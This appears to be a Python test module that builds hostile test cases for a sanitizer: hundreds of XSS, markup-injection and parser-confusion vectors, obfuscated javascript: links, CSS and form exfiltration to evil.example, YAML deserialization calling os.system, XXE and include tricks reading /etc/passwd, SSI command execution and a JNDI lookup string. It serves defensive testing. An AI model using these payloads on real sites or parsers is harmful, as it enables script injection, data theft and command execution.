"""Further dresses of active content and of what looks like markup or front matter: by parser, by carrier, by file.

Those of :mod:`active` are the ones that every filter is tried on; these are the ones that filters were got round with:
what a parser makes of a text differs from what the next one makes of its output, an address is spelled so that only a
browser reads it, an element animates another's attribute.
"""

from __future__ import annotations

import html
from collections.abc import Iterator

from tests.hostile.active import FIRE
from tests.hostile.case import MARK, Case, Words

_F = html.escape(FIRE, quote=True)
_X = f"<img src=x onerror={MARK}()>"

# What stands behind them on the page is the page's own again.
SHUT: tuple[str, ...] = (
    # drawings and formulas that change or load something
    f"<svg><a><animate attributeName=href values=\"javascript:{_F}\" /><text y=20>click</text></a></svg>",
    f"<svg><a id=x1><text y=20>c</text></a><animate xlink:href=#x1 attributeName=href from=x to=javascript:{MARK} /></svg>",
    f"<svg><a><set attributeName=xlink:href to=javascript:{MARK} /><text>c</text></a></svg>",
    f"<svg><animateTransform onbegin=\"{_F}\" attributeName=transform></svg>", f"<svg><animateMotion onend=\"{_F}\" path=M0></svg>",
    f"<svg><image href=http://evil.example/{MARK}.png /><feImage xlink:href=http://evil.example/{MARK} /></svg>",
    f"<svg><style>@import url(http://evil.example/{MARK}.css)</style></svg>", f"<svg><script href=data:,{MARK} /></svg>",
    f"<svg><script>alert&lpar;'{MARK}'&rpar;</script></svg>", f"<svg><script xlink:href=//evil.example/{MARK}.js></script></svg>",
    f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{MARK}</handler></svg>",
    f"<svg><title><a id=\"</title>{html.escape(_X)}\"></a></title></svg>", f"<svg><desc><iframe srcdoc=\"{_F}\"></iframe></desc></svg>",
    f"<svg><use xlink:href=//evil.example/{MARK}.svg#x /></svg>", f"<svg xmlns:xlink=x><a xlink:href=javascript:{MARK}><rect width=9 height=9 /></a></svg>",
    f"<math><annotation-xml encoding=text/html><script>{FIRE}</script></annotation-xml></math>",
    f"<math href=javascript:{MARK}>click</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{MARK}>x</maction></math>",
    f"<math><semantics><annotation-xml encoding=\"application/xhtml+xml\">{_X}</annotation-xml></semantics></math>",
    # what one parser hides and the next one shows
    f"<svg></p><style><a id=\"</style>{html.escape(_X)}\"></style></svg>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{html.escape(_X)}\"></table></mtext></math>",
    f"<style><style/>{_X}</style>", f"<a title=\"<b>\"><i title='</a>{html.escape(_X)}'>t</i></a>", f"<table><td><a><table><td></a>{_X}</table></table>",
    f"<p id='&lt;/p&gt;{html.escape(_X)}'>attribute</p>", f"<p title=\"&quot;&gt;{html.escape(_X)}\">quoted</p>", f"<p title='`{html.escape(_X)}`'>ticked</p>",
    f"<!--><script>{FIRE}</script>-->", f"<!---><script>{FIRE}</script>-->", f"<!-- --!><script>{FIRE}</script><!-- -->", f"<!-x><script>{FIRE}</script>", f"</ x><script>{FIRE}</script>",
    f"<%<script>{FIRE}</script>%>", f"<![if true]><script>{FIRE}</script><![endif]>", f"<? <script>{FIRE}</script> ?>", f"<//script><script>{FIRE}</script>",
    f"<listing>{html.escape(_X)}</listing>", f"<xml id=i><x><c><![CDATA[{_X}]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html>t</span>",
    f"<div><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{FIRE}</x:script></div>", f"<x xmlns:on=x on:load={MARK}>n</x>", f"<b/onmouseover={MARK}/>t</b/>",
    # scripts by another name
    f"<script\n>{FIRE}</script\n>", f"<script\f>{FIRE}</script\f>", f"<script/xss>{FIRE}</script/xss>", f"<script type=importmap>{{\"imports\":{{\"x\":\"data:,{MARK}\"}}}}</script>",
    f"<script type=speculationrules>{{\"prerender\":[{{\"urls\":[\"http://evil.example/{MARK}\"]}}]}}</script>", f"<script nomodule async defer src=//evil.example/{MARK}></script>",
    f"<script language=vbscript>{MARK}</script>", f"<script event=onload for=window>{MARK}</script>", "<script src=\"data:text/javascript;base64,YWxlcnQoMSk=\"></script>", f"<SCRIPT SRC=HTTP://EVIL.EXAMPLE/{MARK}></SCRIPT>",
    # handlers
    f"<img src=x oNeRrOr\t=\t\"{_F}\">", f"<img/onerror=\"{_F}\"/src=x>", f"<img src=x onerror=&#97;lert({MARK})>", f"<img src=x onerror=`{MARK}`>", f"<img src=x onerror={MARK} onerror=y>",
    f"<img src=x onload=x ONERROR={MARK} alt='a'>", f"<img\fsrc=x\fonerror={MARK}>", f"<div popover onbeforetoggle={MARK} id=pp>p</div><button popovertarget=pp>b</button>",
    f"<p style=\"animation:x 1s\" onanimationstart={MARK} onanimationend={MARK}>a</p>", f"<p oncontentvisibilityautostatechange={MARK} style=content-visibility:auto>v</p>",
    f"<p onscrollend={MARK} onwheel={MARK} oncopy={MARK} onpaste={MARK} ondrag={MARK}>h</p>", f"<input type=hidden accesskey=x onclick={MARK}>", f"<p onfocusin={MARK} tabindex=0 autofocus>f</p>",
    f"<video src=x onloadstart={MARK} onerror={MARK}></video>", f"<img src=x:{MARK} onerror=eval(src)>", f"<area shape=rect coords=0,0,9,9 href=javascript:{MARK}>", f"<map name=m><area href=javascript:{MARK}></map><img usemap=#m src=x>",
    # addresses
    *(
        f'<a href="{address}">click</a>'
        for address in (
            f"java&Tab;script:{MARK}", f"java&NewLine;script:{MARK}", f"javascript&#58;{MARK}", f"javascript&#x3A{MARK}", f"&#0000106avascript:{MARK}", f"&#x6A&#x61&#x76&#x61script:{MARK}",
            f"\x01\x02javascript:{MARK}", f"\u00a0javascript:{MARK}", f"\u2028javascript:{MARK}", f"java\x0bscript:{MARK}", f"java\u200bscript:{MARK}", f"javascript:{MARK}//http://example.com/", f"javascript://%0a{MARK}",
            f"JAVASCRIPT&colon;{MARK}", f"feed:javascript:{MARK}", f"livescript:{MARK}", f"mocha:{MARK}", f"jar:http://evil.example/{MARK}!/x", f"mhtml:http://evil.example/{MARK}", f"ms-its:{MARK}", f"x-javascript:{MARK}",
            f"data:text/html;charset=utf-7,+ADw-{MARK}", f"data:image/svg+xml;base64,{MARK}", f"data:application/xhtml+xml,{MARK}", f"DATA:,{MARK}", f"about:blank#{MARK}", f"chrome://x/{MARK}", f"res://{MARK}", f"wyciwyg://{MARK}",
            f"https:{MARK}.example", f"http:\\\\evil.example\\{MARK}", f"/\\evil.example/{MARK}", f"///evil.example/{MARK}", f"\\/evil.example/{MARK}", f"http://example.com@evil.example/{MARK}", f"http://evil.example\\@example.com/{MARK}",
            f"http://example.com%2f@evil.example/{MARK}", f"http://[::ffff:127.0.0.1]/{MARK}", f"http://0x7f000001/{MARK}", f"http://exa\u00admple.com/{MARK}", f"http://\uff45\uff56\uff49\uff4c.example/{MARK}", f"http://evil\u3002example/{MARK}",
            f"http://example.com/\u202e{MARK}", f"mailto:a@example.com?subject={MARK}&body=%0aBcc:x", f"tel:{MARK}", f"sms:{MARK}", f"steam://{MARK}", f"search-ms:query={MARK}", f"vscode://{MARK}", f"{{static}}/{MARK}", "{attach}../secret.txt", "|filename|../secret.txt",
        )
    ),
    f"<a href=http://ok.example href=javascript:{MARK}>twice</a>", f"<a href=javascript:{MARK} href=http://ok.example>twice</a>", f"<a xml:base=javascript:{MARK} href=x>base</a>", "<a href=http://ok.example target=_top rel=opener download=x.exe>open</a>",
    # what loads, sends or styles
    f"<meta http-equiv=Set-Cookie content=\"{MARK}=1\">", "<meta name=referrer content=unsafe-url>", f"<meta http-equiv=\"Refresh\" content=\"0; URL='data:text/html,{MARK}'\">", f"<meta http-equiv=Link content=\"<http://evil.example/{MARK}>; rel=stylesheet\">",
    f"<meta http-equiv=content-security-policy-report-only content=\"report-uri http://evil.example/{MARK}\">", f"<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//{MARK}.evil.example>",
    *(f"<link rel={rel} href=http://evil.example/{MARK}>" for rel in ("prefetch", "prerender", "preconnect", "modulepreload", "manifest", "icon", "pingback", "alternate", "search", "canonical")),
    f"<link rel=stylesheet href=\"data:text/css,*{{background:url(http://evil.example/{MARK})}}\">", f"<style>@font-face{{src:url(http://evil.example/{MARK})}} @namespace x url(x);</style>", f"<style>*{{-moz-binding:url(http://evil.example/{MARK}#x);behavior:url({MARK})}}</style>",
    f"<style>input[value^=a]{{background:url(http://evil.example/{MARK})}}</style>", f"<style>p::before{{content:'{MARK}'}} body{{visibility:hidden}}</style>",
    *(
        f"<p style=\"{style}\">styled</p>"
        for style in (
            f"background-image:\\75rl(http://evil.example/{MARK})", f"-moz-binding:url({MARK})", f"content:url({MARK})", f"list-style:url(data:,{MARK})", f"--x:url({MARK})", f"width:e/**/xpression({MARK})", f"w\\0069dth:exp\\72ession({MARK})",
            f"background:image-set('http://evil.example/{MARK}' 1x)", f"cursor:url({MARK}),auto", f"x:&#101;xpression({MARK})", "position:fixed;inset:0;opacity:0", f"behavior:url(#{MARK})", f"filter:url(http://evil.example/{MARK}#x)",
        )
    ),
    f"<img lowsrc=javascript:{MARK} dynsrc=javascript:{MARK} longdesc=javascript:{MARK}>", f"<input type=image src=http://evil.example/{MARK} formaction=javascript:{MARK}>", f"<object type=text/html data=http://evil.example/{MARK}><param name=movie value=javascript:{MARK}></object>",
    f"<video poster=http://evil.example/{MARK}><track src=http://evil.example/{MARK}></video>", f"<blockquote cite=javascript:{MARK}>cited</blockquote>", f"<q cite=javascript:{MARK}>q</q> <del cite=javascript:{MARK}>d</del> <ins cite=javascript:{MARK}>i</ins>",
    f"<iframe srcdoc='&#60;script&#62;{MARK}&#60;/script&#62;' sandbox=allow-scripts></iframe>", f"<iframe src=data:text/html,{MARK} csp=x allow=camera></iframe>", f"<iframe src=\"//evil.example/{MARK}\" onload={MARK} loading=lazy></iframe>",
    f"<form id=f action=http://evil.example/{MARK}></form><input form=f name=password type=password>", f"<form method=dialog><button formmethod=post formaction=http://evil.example/{MARK}>b</button></form>", f"<button form=x formtarget=_blank formaction=data:,{MARK}>b</button>",
    f"<fieldset><legend onclick={MARK}>l</legend></fieldset>", f"<output onclick={MARK}>o</output><meter onclick={MARK} value=1></meter><progress onclick={MARK}></progress>", f"<html manifest=http://evil.example/{MARK} onclick={MARK}>", f"<head profile=http://evil.example/{MARK}>",
    f"<body onhashchange={MARK} onmessage={MARK} onpageshow={MARK} link=x background=//evil.example/{MARK}>", f"<?import namespace=t implementation=#default#time2><t:set attributename=innerHTML to=\"{html.escape(_X)}\">", f"<template><template shadowrootmode=closed><slot onslotchange={MARK}></slot></template></template>",
    f"<is=x is=img><p is=script src={MARK}>is</p>", f"<p slot=x part=y itemprop=author>{MARK} slotted</p>", f"<p contenteditable=true spellcheck draggable=true inert hidden={MARK}>edited</p>", "<p lang='x\" onload=\"y' dir='z\"'>language</p>",
    f"<noscript><noscript>{_X}</noscript></noscript>", f"<noembed>{_X}</noembed><noframes>{_X}</noframes><noscript>{_X}</noscript>", f"<a name=\"x\" id=\"</script>{html.escape(_X)}\">anchor</a>", f"<p>]]>{html.escape(_X)}</p>", f"<p>&lt;!--&gt;{html.escape(_X)}--&gt;</p>",
)  # fmt: skip

# What stays open to the end of the page, or takes what follows with it.
OPEN: tuple[str, ...] = (
    f"<script>{FIRE}", f"<script>/*</p>{MARK}", f"<style>@import '{MARK}", f"<!-- {MARK}", f"<svg><style>{MARK}", f"<title>{MARK}", f"<textarea>{MARK}", f"<iframe>{MARK}", f"<noframes>{MARK}", f"<select><template><style></select>{_X}",
    f"<a href='x\n\n{MARK}", f"<p title=\"{MARK}", f"<img src='{MARK}", f"<?{MARK}", f"<!DOCTYPE {MARK} [", f"<![CDATA[{MARK}", f"<frameset><frame src={MARK}>", f"<object><embed src={MARK}>", f"<template>{MARK}", f"<plaintext/>{MARK}", f"<math><style>{MARK}",
)  # fmt: skip

# One paragraph each, kept as printed; what of it a Markdown reader could take for its own.
MARKDOWN: tuple[str, ...] = (
    f"<javascript:{MARK}> said the warden", f"<data:text/html,{MARK}>", f"<JAVASCRIPT:alert({MARK})>", f"[a](javascript:{MARK})", f"[a](<javascript:{MARK}>)", f"[a](java&#115;cript:{MARK})", f"[a](&#x6a;avascript:{MARK})", f"[a](javascript&colon;{MARK})",
    f"[a]: javascript:{MARK}", f"[a]: <javascript:{MARK}> 'title'", f"[a][b] and [b]: data:,{MARK}", f"![a](javascript:{MARK})", f"![a](x \"onerror={MARK}\")", f"[a](x \"\\\" onload={MARK}\")", f"[a](x '</a>{_X}')", f"[{_X}](x)", f"![{_X}](x)",
    f"![\" onerror={MARK}](x)", f"[a](x\\\"onload={MARK})", f"[a](\tjavascript:{MARK})", f"[a](  \u00a0javascript:{MARK})", f"<http://x/\"onload={MARK}>", f"<a@b.example?{MARK}>", f"http://x/<script>{MARK}</script>", f"www.x.example/\"onload={MARK}",
    "[[toc]]", "[TOC]", "{{TOC}}", "[[Page|name]]", "((ref))", "![[embed.md]]", "{:toc}", f"{{:.class onload={MARK}}}", f"{{: style=\"{MARK}\"}}", f"{{onclick={MARK}}}", f"^[inline note {_X}]", f"*[x]: {_X}", "[^note]: <script>", "[^1]: javascript:x",
    "<!-- -->", "<!-->", "<!--->", "<!-- note -->", "<!-- standfirst -->", "<!-- removed", "-->", "<!-- earlier -->", "<![CDATA[x]]>", "<?php x ?>", "<!DOCTYPE x>", "<a href='x'", "</p>", "<p/>", "<br>", "</script>", "<x y=\"", "<x y='>'>z",
    "&#0; &#xD800; &#x110000; &#128; &#x80;", "&NewLine;&Tab;&colon;&lpar;", "&lt;script&gt;", "&amp;lt;", "&#60;b&#62;", "&lt", "&ampx", "&notit;", "\\<script>", "\\&lt;", "|<script>|x|", "|-|-|", "> <script>", "- <script>", "1. <script>", "# <script>",
    "$$<script>$$", "`<script>`", "``` html <script>", "~~~ x", "[](javascript:x)", "[ ](x)", "[x]()", "[x](<>)", "[x]: <>", "[]: x", "[\u202e](x)", "[a](http://x)\u200b[b](y)", "+++", "%%%", "~~~~~~", "======", "------", "***x", "__x", "~~x", "==x",
    "<kbd>a</kbd>", "<sub>a</sub>", "<details><summary>x", "@import url(x)", ".. raw:: html", ":::{raw} html", "{{< script >}}", "{% raw %}{{ x }}{% endraw %}", "<%= x %>", "<#include \"/etc/passwd\">", "${jndi:ldap://evil.example/x}", "%{(#x)}", "#{7*7}",
    "\\input{/etc/passwd}", "\\write18{id}", "!include /etc/passwd", "{{#include ../../secret.txt}}", "--8<-- \"/etc/passwd\"", "[import](../../secret.txt)", "@[toc](x)", "//[x]//", "''x''", "h1. x", "{code}x{code}", "[x|javascript:y]", "bq. x", "=x=", "'''x'''",
)  # fmt: skip

# At the very beginning of a file, where front matter stands; all of it is text.
FRONT = {
    "yaml-bomb": "---\na: &a [x,x,x,x,x,x,x,x,x]\n" + "\n".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]" for n in range(8)) + "\n---",
    "yaml-object": "---\n!!python/object/apply:os.system ['touch zzfired']\n---", "yaml-object-key": "---\ntitle: !!python/name:os.system\n---", "yaml-merge": "---\na: &a\n  b: c\n<<: *a\n---", "yaml-documents": "---\na: b\n---\n--- !x\nc: d\n...\n---",
    "yaml-binary": "---\nx: !!binary R0lGODlh\n---", "yaml-twice": "---\ntitle: one\ntitle: two\n---", "yaml-tab": "---\n\ttitle: x\n---", "yaml-deep": "---\nx: " + "[" * 3000 + "\n---", "yaml-quoted": "---\n'title': \"a\\x00b\"\n---", "yaml-directive": "%YAML 1.1\n%TAG ! tag:x,1:\n---\nx: y\n---",
    "yaml-block": "---\ntitle: |\n  <script>zzfired</script>\nsummary: >-\n  ---\n---", "yaml-list": "---\n- title\n- x\n---", "yaml-scalar": "---\njust a line\n---", "yaml-date": "---\ndate: 9999-99-99T99:99:99Z\nmodified: -1\n---", "yaml-long-fence": "-----\ntitle: x\n-----", "yaml-spaces": "--- \ntitle: x\n--- ",
    "yaml-ours": "---\ntitle: x\nstory: ../../x\nsource_file: /etc/passwd\ngenerated: source=- text=0000000000000000\nevidence: {title: printed}\n---", "yaml-ours-edited": "---\noutlet: Stolen\npublished: 0000-00-00\nrights: full\nurl: javascript:zzfired\n---",
    "yaml-layout": "---\nlayout: ../../x\npermalink: /../../x.html\nredirect_from: [/]\naliases: [../../x]\noutputs: [x]\n---", "yaml-include": "---\nx: !include /etc/passwd\ny: !ENV HOME\nz: ${HOME}\n---", "toml": "+++\ndraft = true\nslug = '../../x'\n[build]\nrender = 'never'\n+++", "toml-bad": "+++\n= = =\n+++",
    "json": "{\n\"title\": \"x\",\n\"draft\": true,\n\"slug\": \"../../x\"\n}\n", "json-semicolons": ";;;\n\"title\": \"x\"\n;;;", "json-array": "[{\"title\": \"x\"}, 1]", "org": "#+TITLE: x\n#+SETUPFILE: /etc/passwd\n#+BEGIN_EXPORT html\n<script>zzfired</script>\n#+END_EXPORT", "pandoc": "% Title <script>\n% Author\n% 9999-99-99",
    "mdx": "import x from '../../secret.txt'\nexport const y = <script>zzfired</script>", "rmd": "```{r, include=FALSE}\nsystem('id')\n```", "ini": "[default]\ntitle = x\nsave_as = ../../x", "http": "HTTP/1.1 200 OK\nContent-Type: text/html\nLocation: javascript:zzfired", "mbox": "From a@example.com Mon Sep 11 10:00:00 2023\nFrom: a\nTo: b",
    "vcard": "BEGIN:VCARD\nFN:Ann\nPHOTO:file:///etc/passwd\nEND:VCARD", "asciidoc": ":docinfo:\n:toc:\ninclude::/etc/passwd[]\n++++\n<script>zzfired</script>\n++++", "rst": ":save_as: ../../x\n:template: x\n.. csv-table::\n   :file: /etc/passwd", "wiki": "#REDIRECT [[x]]\n{{:../../secret}}\n<nowiki>x</nowiki>", "postscript": "%!PS-Adobe\n(/etc/passwd) run",
    "xml": "<?xml version='1.0'?>\n<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>\n<x>&y;</x>", "ssi": "<!--#include virtual=\"/etc/passwd\" -->\n<!--#exec cmd=\"id\" -->", "erb": "<%= File.read('/etc/passwd') %>", "tex": "\\documentclass{x}\n\\input{/etc/passwd}", "roff": ".so /etc/passwd\n.TH x 1", "python": "import os; os.system('id')\n# -*- coding: rot13 -*-",
}  # fmt: skip


def cases(words: Words) -> Iterator[Case]:
    """Each in a page of its own, all together in one, and in a text."""
    for n, dress in enumerate((*SHUT, *OPEN)):
        page, keep = words.page(dress)
        yield _one("active", f"dress-{n:03}.html", page, keep if n < len(SHUT) and not _takes(dress) else keep[:1])
    text = "\n\n".join(f"{words.sentence()} {' '.join(d.split())}" for d in SHUT if "\x01" not in d)
    yield _one("active-text", "dress-texts.txt", text, tuple(text.split("\n\n")))
    for n, suffix in enumerate((".xhtml", ".shtml", ".htm", ".svg", ".xml", ".php", ".mdx")):
        page, keep = words.page(SHUT[n] + SHUT[-n - 1])
        yield _one("active", f"dress-suffix-{n}{suffix}", page, keep)
    for n, piece in enumerate(MARKDOWN):
        text, keep = words.article(piece)
        yield _one("markdown", f"mark-{n:03}.txt", text, keep)
    for name, piece in FRONT.items():
        text, keep = words.article()
        for suffix in (".md", ".txt"):
            yield _one("front", f"head-{name}{suffix[1:]}{suffix}", f"{piece}\n\n{text}", (piece, *keep))


def _takes(dress: str) -> bool:
    """Whether a browser shows nothing of what follows, or a part of it only."""
    return dress.startswith(("<html", "<head", "<body", "<svg></p><style>", "<style><style/>", "<!-->", "<!--->"))


def _one(kind: str, name: str, text: str, keep: tuple[str, ...]) -> Case:
    return Case(name.rpartition(".")[0], kind, ((name, text.encode("utf-8", "surrogatepass")),), keep)
